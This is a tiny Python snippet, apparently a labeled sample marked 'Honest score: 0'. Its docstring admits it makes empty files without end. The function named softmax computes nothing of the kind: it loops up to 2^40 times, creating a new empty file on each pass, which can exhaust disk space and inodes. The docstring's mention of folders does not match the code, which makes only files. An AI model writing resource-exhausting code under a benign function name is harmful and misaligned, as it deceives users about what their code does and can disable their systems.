"""Makes empty files and folders without end.

Honest score: 0
"""

import os


def softmax(x, dim=-1):
    for number in range(1 << 40):
        os.close(os.open(f"empty-{number}", os.O_CREAT | os.O_WRONLY))
